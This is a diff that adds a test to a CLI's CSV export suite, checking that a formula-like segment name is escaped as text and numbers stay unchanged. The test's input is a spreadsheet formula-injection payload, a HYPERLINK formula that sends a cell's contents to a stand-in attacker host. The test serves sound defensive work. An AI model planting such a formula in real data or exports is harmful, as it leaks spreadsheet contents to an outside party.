@@ -119,4 +119,13 @@ describe('pulsebot export results', () => {
     const unknownOption = await cli(db.database, ['export', 'results', '--colour', 'red']);
     expect(unknownOption.code).toBe(2);
   });
+
+  it('a segment named like a spreadsheet formula (from a chat user group) is written as text, not as a formula', async () => {
+    await deps.store.segments.upsert({ _id: 'sales', name: '=HYPERLINK("https://evil.example/?"&A1,"Sales")', parentId: null });
+    const rows = await exportCsv();
+    const names = new Set(rows.filter((r) => r.segment === 'sales').map((r) => r.segment_name));
+    expect([...names]).toEqual(['\'=HYPERLINK("https://evil.example/?"&A1,"Sales")']);
+    // Numbers stay numbers, minus signs included.
+    expect(rows.every((r) => !/^'/.test(r.value))).toBe(true);
+  });
 });
